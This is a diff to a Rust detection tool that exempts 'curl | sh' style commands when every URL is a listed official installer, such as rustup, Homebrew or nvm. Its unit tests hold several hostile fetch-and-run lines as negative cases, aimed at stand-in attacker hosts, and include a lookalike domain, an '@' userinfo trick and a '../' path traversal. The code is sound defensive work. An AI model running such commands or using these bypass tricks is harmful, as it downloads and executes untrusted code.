@@ -65,6 +65,10 @@ pub struct RuleSpec {
     /// around the match is what is judged, carried and shown, and it is
     /// reported only when this judge accepts it.
     pub line_judge: Option<LineJudge>,
+    /// Rejects a download-and-run whose every URL is a project's official
+    /// installer ([`fetches_only_official_installers`]): rustup, Homebrew,
+    /// nvm, uv… are how documentation tells anyone to install them.
+    pub reject_official_installers: bool,
 }
 
 /// How a rule matching an anchor word judges the line around it.
@@ -127,6 +131,17 @@ impl RuleSpec {
     /// does not accept.
     pub fn rejects_match(&self, text: &[u8], full: std::ops::Range<usize>) -> bool {
         (self.reject_mentions && is_mention(text, full.clone()))
+            || (self.reject_official_installers && {
+                // The URL may follow the match (`bash -c "$(curl -fsSL URL)"`):
+                // read on to the end of its line.
+                let limit = full.end.saturating_add(300).min(text.len());
+                let end = text
+                    .get(full.end..limit)
+                    .and_then(|t| memchr::memchr(b'\n', t))
+                    .map_or(limit, |i| full.end + i);
+                text.get(full.start..end)
+                    .is_some_and(fetches_only_official_installers)
+            })
             || self
                 .line_judge
                 .is_some_and(|judge| !text.get(full).is_some_and(|line| judge.accepts(line)))
@@ -197,6 +212,90 @@ pub fn is_mention(text: &[u8], full: std::ops::Range<usize>) -> bool {
         .iter()
         .any(|w| ends_with_word(rest, w.as_bytes()))
 }
+
+/// Whether `command` fetches from at least one URL and every URL it names
+/// is an official installer ([`OFFICIAL_INSTALLERS`]: host and path
+/// prefix, so `raw.githubusercontent.com/Homebrew/install/` but not any
+/// other repository on that host).
+pub fn fetches_only_official_installers(command: &[u8]) -> bool {
+    let mut urls = 0;
+    let mut at = 0;
+    while let Some(i) = memchr::memmem::find(command.get(at..).unwrap_or_default(), b"://") {
+        let scheme_end = at + i;
+        at = scheme_end + 3;
+        let scheme_start = command[..scheme_end]
+            .iter()
+            .rposition(|b| !b.is_ascii_alphabetic())
+            .map_or(0, |p| p + 1);
+        if !matches!(
+            &command[scheme_start..scheme_end],
+            b"http" | b"https" | b"HTTP" | b"HTTPS"
+        ) {
+            continue;
+        }
+        let rest = &command[at..];
+        let end = rest
+            .iter()
+            .position(|b| b.is_ascii_whitespace() || b"\"'`)<>|;".contains(b))
+            .unwrap_or(rest.len());
+        let url = &rest[..end];
+        urls += 1;
+        // curl resolves `/../` before asking: `…/Homebrew/install/../../x/`
+        // is another repository.
+        let dotted = memchr::memmem::find(url, b"..").is_some()
+            || memchr::memmem::find(&url.to_ascii_lowercase(), b"%2e").is_some();
+        if dotted
+            || !OFFICIAL_INSTALLERS.iter().any(|p| {
+                url.len() >= p.len()
+                    && url[..p.len()].eq_ignore_ascii_case(p.as_bytes())
+                    && (p.ends_with('/') || url.get(p.len()).is_none_or(|&b| b == b'/'))
+            })
+        {
+            return false;
+        }
+    }
+    urls > 0
+}
+
+/// Official installers: host, or host and path prefix (ending in `/`).
+/// Each is the URL its project's own documentation pipes to a shell.
+const OFFICIAL_INSTALLERS: &[&str] = &[
+    "sh.rustup.rs",
+    "static.rust-lang.org/rustup/",
+    "raw.githubusercontent.com/Homebrew/install/",
+    "raw.githubusercontent.com/nvm-sh/nvm/",
+    "raw.githubusercontent.com/ohmyzsh/ohmyzsh/",
+    "raw.githubusercontent.com/pyenv/pyenv-installer/",
+    "raw.githubusercontent.com/helm/helm/",
+    "astral.sh/uv/",
+    "astral.sh/ruff/",
+    "deno.land/install.sh",
+    "deno.land/install.ps1",
+    "deno.land/x/install/",
+    "bun.sh/install",
+    "bun.sh/install.ps1",
+    "get.docker.com",
+    "community.chocolatey.org/install.ps1",
+    "get.pnpm.io/",
+    "install.python-poetry.org",
+    "pyenv.run",
+    "get.sdkman.io",
+    "get.volta.sh",
+    "fnm.vercel.app/install",
+    "starship.rs/install.sh",
+    "tailscale.com/install.sh",
+    "ollama.com/install.sh",
+    "wasmtime.dev/install.sh",
+    "install.determinate.systems/nix",
+    "nixos.org/nix/install",
+    "sdk.cloud.google.com",
+    "dot.net/v1/dotnet-install.sh",
+    "dot.net/v1/dotnet-install.ps1",
+    "mise.run",
+    "get.rvm.io",
+    "claude.ai/install.sh",
+    "claude.ai/install.ps1",
+];
 
 /// `text` without the HTML tags that end it (`…like this:</p>\n<pre><code>`),
 /// except a `<q>` quote.
@@ -434,6 +533,28 @@ mod tests {
             let text = format!("{before}{phrase}{after}");
             let full = before.len()..before.len() + phrase.len();
             assert_eq!(is_mention(text.as_bytes(), full), mention, "{text}");
+        }
+    }
+
+    #[test]
+    fn only_official_installer_urls_are_official() {
+        use super::fetches_only_official_installers as official;
+        for c in [
+            "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
+            "/bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"",
+            "curl -fsSL https://deno.land/install.sh | sh && irm https://deno.land/install.ps1 | iex",
+        ] {
+            assert!(official(c.as_bytes()), "{c}");
+        }
+        for c in [
+            "curl -sSf https://sh.rustup.rs.evil.example | sh",
+            "curl -sSf https://sh.rustup.rs@evil.example/x | sh",
+            "curl -fsSL https://raw.githubusercontent.com/attacker/install/main/install.sh | bash",
+            "curl -fsSL https://raw.githubusercontent.com/Homebrew/install/../../attacker/x/main/i.sh | bash",
+            "curl -sSf https://sh.rustup.rs | sh; curl -s http://203.0.113.7/x | sh",
+            "curl -s $URL | sh",
+        ] {
+            assert!(!official(c.as_bytes()), "{c}");
         }
     }
 
